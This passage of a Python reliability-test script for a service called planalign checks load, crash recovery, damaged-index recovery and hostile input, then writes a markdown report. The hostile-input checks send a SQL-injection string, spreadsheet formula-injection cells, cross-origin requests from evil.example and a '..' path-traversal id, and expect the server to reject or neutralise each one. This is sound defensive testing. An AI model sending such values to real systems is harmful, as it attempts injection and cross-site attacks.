    item("job: cells =HYPERLINK(...) and @SUM(...)", "text cells in XLSX, apostrophe in CSV", xlsx, neutral,
         f"XLSX cell type {cell.data_type!r}, quote prefix {cell.quotePrefix}")
    # 5. cross-site writes and headers
    result = client.call("POST", "/v1/projects", {"projects": [{"id": "CSRF-1", "name": "x"}]}, headers={"Origin": "https://evil.example"})
    item("POST /v1/projects from another origin (no key)", "403", result, result.status == 403)
    body, head = multipart({"id": "evil"}, "c.csv", b"id,parent_id,level,name,description\nA,,dimension,x,y\n")
    result = client.call("POST", "/v1/catalogs", body=body, headers={**head, "Referer": "http://evil.example/x.html"})
    item("catalog upload with a foreign Referer", "403", result, result.status == 403)
    page = client.call("GET", "/evaluate")
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    connection.request("GET", "/evaluate")
    headers = {k.lower(): v for k, v in connection.getresponse().getheaders()}
    connection.close()
    item("page headers", "CSP without inline script, X-Frame-Options DENY, nosniff, Referrer-Policy", page,
         "unsafe-inline" not in headers.get("content-security-policy", "unsafe-inline") and headers.get("x-frame-options") == "DENY"
         and headers.get("x-content-type-options") == "nosniff" and bool(headers.get("referrer-policy")),
         headers.get("content-security-policy", "")[:90])
    # 6. smaller items
    batch = [{"id": f"SAME-{i}", "name": f"โครงการซ่อมถนนซอย {i}"} for i in range(300)]
    answers: list[Result] = []
    threads = [threading.Thread(target=lambda: answers.append(server.client().call("POST", "/v1/projects", {"projects": batch}))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    item("4 concurrent upserts of the same 300 new ids", "all 200, no SQL text", answers[0],
         all(a.status == 200 and b"INSERT" not in a.body for a in answers), f"statuses {[a.status for a in answers]}")
    result = client.call("POST", "/v1/projects", {"projects": [{"id": "BKK/2568/001", "name": "โครงการทดสอบ"}]})
    fetched = client.call("GET", "/v1/projects/BKK/2568/001")
    item("project id with '/'", "fetchable", fetched, fetched.status == 200)
    result = upload("/v1/catalogs", "c.csv", b"id,parent_id,level,name,description\nA,,dimension,x,y\n", {"id": ".."})
    item("catalog id '..'", "422", result, result.status == 422)
    result = client.call("GET", "/v1/nothing")
    item("unknown route", '{"error": ...}', result, result.status == 404 and b'"error"' in result.body)
    result = client.call("GET", "/v1/search?" + urllib.parse.urlencode({"q": "'; DROP TABLE projects; --"}))
    item("search: SQL-like query", "200", result, result.status == 200)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["text"])
    writer.writerows([r["description"][:300]] for r in rows[:15000])
    job = upload("/v1/classify/jobs", "long-job.csv", buffer.getvalue().encode(), {"text_col": "text"})
    if job.status != 202:
        raise RuntimeError(f"the 15,000-row job was refused: {job.status} {job.body[:300]!r}")
    job_id = json.loads(job.body).get("id")
    wait_until(lambda: json.loads(client.call("GET", f"/v1/classify/jobs/{job_id}").body)["status"] == "running", 60, 0.1)
    time.sleep(2)
    cancel = client.call("DELETE", f"/v1/classify/jobs/{job_id}")
    done_at_cancel = json.loads(cancel.body).get("progress", {}).get("done")
    time.sleep(3)
    after = json.loads(client.call("GET", f"/v1/classify/jobs/{job_id}").body)
    item("DELETE a running 15,000-row job", "cancelled, stops at the next batch", cancel,
         cancel.status == 200 and after["status"] == "cancelled" and after["progress"]["done"] < 15000,
         f"done {done_at_cancel} at cancel, {after['progress']['done']} three seconds later, status {after['status']}")
    server.stop()
    # 7. keys (a keyed server)
    keyed = Server(fresh_copy(base, "hostile-keyed"), "static", "hostile-keyed", env={"PLANALIGN_API_KEYS": "คีย์ลับ", "PLANALIGN_READ_REQUIRES_KEY": "1"})
    keyed.wait_listening()
    keyed.wait_ready()
    kc = keyed.client()
    wrong = kc.call("POST", "/v1/projects", {"projects": [{"id": "K", "name": "x"}]}, headers={"X-API-Key": "ผิด".encode().decode("latin-1")})
    item("non-ASCII wrong API key", "401 (was 500)", wrong, wrong.status == 401)
    right = kc.call("POST", "/v1/projects", {"projects": [{"id": "K", "name": "x"}]}, headers={"X-API-Key": "คีย์ลับ".encode().decode("latin-1")})
    item("non-ASCII configured key sent as UTF-8", "200", right, right.status == 200)
    keyed.stop()
    return findings


# ------------------------------------------------------------------------------------------ report
def fmt(value: Any, digits: int = 2) -> str:
    if isinstance(value, float):
        return "–" if value != value else f"{value:.{digits}f}"
    return str(value)


def report(results: dict[str, Any]) -> str:
    lines = ["# Reliability (`make reliability`)", "",
             f"Measured {results['date']} on this machine: {os.cpu_count()} cores shared with other work (timings are noisy), "
             f"loopback, `planalign serve` in its own process (OMP_NUM_THREADS={os.environ.get('OMP_NUM_THREADS', 'unset')}). "
             "Data: the embedded sample projects plus the 13,584 Traffy reports of January 2023, index encoder `static`. "
             f"Total run {results['minutes']:.0f} minutes. Source: `eval/reliability.py`; raw figures in `reliability.json`.", ""]
    lines += ["## Acceptance", "", "| criterion | target | measured | |", "|---|---|---|---|"]
    for row in results["acceptance"]:
        lines.append(f"| {row[0]} | {row[1]} | {row[2]} | {'pass' if row[3] else '**FAIL**'} |")
    for load in results["load"]:
        lines += ["", f"## Load: {load['clients']} clients, {load['seconds']:.0f} s, drafts encoder `{load['encoder']}`", "",
                  "Closed loop, think time 0-1 s, each client on one keep-alive connection; an upsert of 20 projects (10 updated, 10 new) "
                  f"every 10 s, a delete every 30 s; one classification job of {load['job']['rows']:,} rows submitted at the start "
                  f"(at the end: {load['job']['status']}, {load['job']['progress']}). {load['requests']:,} requests, "
                  f"{load['throughput']} per second.", "",
                  "| endpoint | requests | 5xx | 4xx | resets | closed by server | p50 s | p95 s | p99 s | max s |",
                  "|---|---|---|---|---|---|---|---|---|---|"]
        for name, e in load["endpoints"].items():
            lines.append(f"| {name} | {e['requests']} | {e['5xx']} | {e['4xx']} | {e['resets']} | {e['closed']} | {fmt(e['p50'])} | "
                         f"{fmt(e['p95'])} | {fmt(e['p99'])} | {fmt(e['max'])} |")
        lines += ["", f"Server RSS: {load['rss_start_mb']} MB after warm-up, {load['rss_end_mb']} MB at the end (growth "
                      f"{load['rss_growth_mb']} MB, peak growth {load['rss_peak_growth_mb']} MB). Tracebacks in the server log: "
                      f"{load['server_log_errors']}. Store and index after the run: {load['agreement_after']}. "
                      f"`GET /v1/duplicates` (the cluster sweep over every project, not in the mix) took {load['clusters_once']['seconds']} s "
                      f"once after the run (status {load['clusters_once']['status']})."]
    lines += ["", "## kill -9, then restart", "",
              "Each scenario kills a process at a point, restarts `planalign serve` on the same data directory and measures the time "
              "from the restart until `/readyz` is ready (it is 503 \"indexing n of m\" while store and index disagree); agreement "
              "is then checked offline, project by project, by content hash. A probe client asks search, duplicate check and align "
              "in turn (0.2 s apart) from the moment the server listens: its slowest answer and the answers over 2 s are the "
              "\"blocking\" figures (503 = still loading, answered at once).", "",
              "| scenario | killed at | store after kill | ready + agreed after restart | agree (store/index) | probe requests | slowest s | > 2 s "
              "| probe statuses | resets |",
              "|---|---|---|---|---|---|---|---|---|---|"]
    for k in results["kill"]:
        a = k["agreement"]
        lines.append(f"| {k['scenario']} | {k['killed_at_s']} s | {k['store_after_kill']} | {k['agreement_s']} s | "
                     f"{'yes' if a['agree'] else '**no**'} ({a['store']}/{a['index']}) | {k['probe']['requests']} | {k['probe']['max_s']} | "
                     f"{k['probe']['over_2s']} | {k['probe']['statuses']} | {k['probe']['resets']} |")
    lines += ["", "What each kills: " + "; ".join(f"**{code}** {what}" for code, what in {k['scenario'].split()[0]: k['what'] for k in results["kill"]}.items()) + "."]
    lines += ["", "## Damaged newest generation", "",
              "The data directory's index is damaged by hand, then the server starts on it. Expected: it serves the newest state "
              "that loads (fewer deltas, else the previous generation, kept on disk), `/healthz` answers 200 with "
              "`\"status\": \"degraded\"` and the problem, `/readyz` is 503 while the background indexer rebuilds, then both "
              "are healthy and store and index agree.", "",
              "| damage | ready + agreed after | /healthz seen | agree (store/index) | probe requests | slowest s | > 2 s | probe statuses |",
              "|---|---|---|---|---|---|---|---|"]
    for d in results["damage"]:
        a = d["agreement"]
        lines.append(f"| {d['scenario']} | {d['agreement_s']} s | {' → '.join(d['probe']['health'])} | {'yes' if a['agree'] else '**no**'} "
                     f"({a['store']}/{a['index']}) | {d['probe']['requests']} | {d['probe']['max_s']} | {d['probe']['over_2s']} | {d['probe']['statuses']} |")
    lines += ["", "## Hostile input", "", "| input | expected | status | seconds | message | server path or content leaked | |",
              "|---|---|---|---|---|---|---|"]
    for h in results["hostile"]:
        message = h["message"].replace("|", "\\|")
        note = f" ({h['note']})" if h["note"] else ""
        lines.append(f"| {h['input']} | {h['expected']} | {h['status']} | {h['seconds']} | {message}{note} | {'**yes**' if h['leak'] else 'no'} | "
                     f"{'pass' if h['pass'] else '**FAIL**'} |")
    lines += ["", "## Where each item of issue 15 is checked", "",
              "| item | fast test (`make test`) | here |", "|---|---|---|"]
    lines += [f"| {a} | {b} | {c} |" for a, b, c in ISSUE_MAP]
    return "\n".join(lines) + "\n"


ISSUE_MAP = [
    ("1. catalogs by id only, no existence oracle",
     "tests/test_security.py::test_catalog_fields_never_read_server_files_and_do_not_reveal_whether_they_exist", "hostile input"),
    ("2. 500s / stalls / resets under concurrency",
     "tests/test_store_concurrency.py, test_service_reliability.py::test_a_500_keeps_the_keep_alive_connection", "load"),
    ("2. generation deleted under a reader", "tests/test_index_recovery.py (grace period, retry when the pointer moves)", "load (upserts during reads)"),
    ("3. store/index agreement after kill -9, readiness", "test_service_reliability.py (start-up reconciliation, writes only queue)", "kill -9"),
    ("4. damaged newest generation, health", "tests/test_index_recovery.py, test_service_reliability.py (degraded then repaired)", "damaged generation"),
    ("5. unbounded work, job cancel", "tests/test_tables_hostile.py, test_security.py (limits), test_service_reliability.py (cancel)", "hostile input"),
    ("6. cross-site writes, page headers", "tests/test_security.py, tests/test_browser.py (CSP: no console errors)", "hostile input"),
    ("7. formula injection", "tests/test_tables_hostile.py, test_security.py (job results)", "hostile input"),
    ("8. non-ASCII keys, confusion.png, UI 401, concurrent ingests, catalog ids, ids with /, error shape, unclosed quote",
     "tests/test_security.py, test_browser.py (keyed server), test_store_concurrency.py, test_tables_hostile.py", "hostile input"),
]


def acceptance(results: dict[str, Any]) -> list[tuple[str, str, str, bool]]:
    rows: list[tuple[str, str, str, bool]] = []
    main = results["load"][0]
    core = {k: v for k, v in main["endpoints"].items() if k in ("align", "search", "check")}
    every = main["endpoints"].values()
    fives = sum(e["5xx"] for e in every)
    resets = sum(e["resets"] + e["closed"] for e in every)
    worst = max(e["p99"] for e in core.values())
    rows.append(("load: responses 5xx (every endpoint)", "0", str(fives), fives == 0))
    rows.append(("load: connection resets / closed", "0", str(resets), resets == 0))
    rows.append((f"load: p99 align / search / duplicate check (`{main['encoder']}`)", f"<= {ACCEPT_P99_S} s",
                 " / ".join(f"{core[k]['p99']:.2f}" for k in ("align", "search", "check")), worst <= ACCEPT_P99_S))
    for extra in results["load"][1:]:  # informational: e5 alone saturates 2 cores at this load
        e_core = {k: v for k, v in extra["endpoints"].items() if k in ("align", "search", "check")}
        e_fives = sum(e["5xx"] + e["resets"] + e["closed"] for e in extra["endpoints"].values())
        p99 = " / ".join(f"{e_core[k]['p99']:.2f}" for k in ("align", "search", "check"))
        rows.append((f"load with drafts encoder `{extra['encoder']}` ({extra['seconds']:.0f} s): 5xx + resets "
                     "(p99 align / search / check: informational, e5 saturates 2 cores)", "0", f"{e_fives} ({p99} s)", e_fives == 0))
    rows.append(("load: server RSS growth", f"<= {ACCEPT_RSS_MB:.0f} MB", f"{main['rss_growth_mb']} MB (peak {main['rss_peak_growth_mb']})",
                 main["rss_growth_mb"] <= ACCEPT_RSS_MB))
    kills = results["kill"]
    slowest = max(k["agreement_s"] for k in kills)
    rows.append(("kill -9 (word cache warm or cold): restart to agreement", f"<= {ACCEPT_AGREE_S:.0f} s",
                 f"{slowest} s (slowest of {len(kills)})", slowest <= ACCEPT_AGREE_S and all(k["agreement"]["agree"] for k in kills)))
    blocking = max(k["probe"]["max_s"] for k in results["kill"] + results["damage"])
    rows.append(("kill -9 and damage: slowest request meanwhile", f"<= {ACCEPT_BLOCK_S:.0f} s", f"{blocking} s", blocking <= ACCEPT_BLOCK_S))
    damaged = all(d["agreement"]["agree"] and "degraded" in d["probe"]["health"] for d in results["damage"])
    rows.append(("damaged generation: degraded, served, repaired", "all", "all" if damaged else "see table", damaged))
    hostile_ok = all(h["pass"] for h in results["hostile"])
    passed = f"{sum(h['pass'] for h in results['hostile'])}/{len(results['hostile'])}"
    rows.append(("hostile input: expected answer, no server path or file content", "all", passed, hostile_ok))
    return rows


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--load-seconds", type=float, default=180)
    parser.add_argument("--e5-seconds", type=float, default=60)
    parser.add_argument("--clients", type=int, default=20)
    parser.add_argument("--only", choices=["load", "kill", "damage", "hostile"], action="append")
    parser.add_argument("--scenario", action="append", help="with --only kill: only these (K1, K4, ...), for debugging")
    args = parser.parse_args(argv)
    if not TRAFFY.is_file():
        print(f"needs {TRAFFY}", file=sys.stderr)
        return 2
    # Every data directory of the run is indexed with static, whatever PLANALIGN_INDEX_ENCODER says:
    # the scenarios are sized for it (the default `auto` would pick e5 for the 323 sample projects and
    # keep it for the 13,584 reports, about 40 minutes of embedding per preparation on 2 cores).
    os.environ["PLANALIGN_INDEX_ENCODER"] = "static"
    started = time.monotonic()
    WORK.mkdir(parents=True, exist_ok=True)
    bases = prepare()
    rows = traffy_rows()
    drafts = traffic(rows).drafts
    sections = args.only or ["load", "kill", "damage", "hostile"]
    previous = json.loads((RESULTS / "reliability.json").read_text(encoding="utf-8")) if (RESULTS / "reliability.json").is_file() else {}
    results: dict[str, Any] = {k: previous.get(k, []) for k in ("load", "kill", "damage", "hostile")}
    if "load" in sections:
        log("load test, static")
        results["load"] = [load_test(bases["full"], "static", args.load_seconds, args.clients, 2000, "load-static")]
        log("load test, e5")
        results["load"].append(load_test(bases["full"], "e5", args.e5_seconds, args.clients, 200, "load-e5"))
    if "kill" in sections:
        measured = kill_scenarios(bases, drafts, rows, args.scenario)
        if args.scenario:  # a subset replaces its own rows and keeps the others of the last run
            names = {k["scenario"] for k in measured}
            measured = [k for k in results["kill"] if k["scenario"] not in names] + measured
        results["kill"] = sorted(measured, key=lambda k: int(k["scenario"].split()[0][1:]))  # K1..K8, stable within
    if "damage" in sections:
        results["damage"] = damage_scenarios(bases["full"], drafts)
    if "hostile" in sections:
        results["hostile"] = hostile(bases["full"], rows)
    results["date"] = time.strftime("%Y-%m-%d")
    results["minutes"] = (time.monotonic() - started) / 60
    results["acceptance"] = acceptance(results) if all(results[k] for k in ("load", "kill", "damage", "hostile")) else []
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "reliability.json").write_text(json.dumps(results, ensure_ascii=False, indent=1, default=str), encoding="utf-8")
    if results["acceptance"]:
        (RESULTS / "reliability.md").write_text(report(results), encoding="utf-8")
        log(f"wrote {RESULTS / 'reliability.md'}")
    return 0 if results["acceptance"] and all(row[3] for row in results["acceptance"]) else 1


if __name__ == "__main__":
    sys.exit(main())
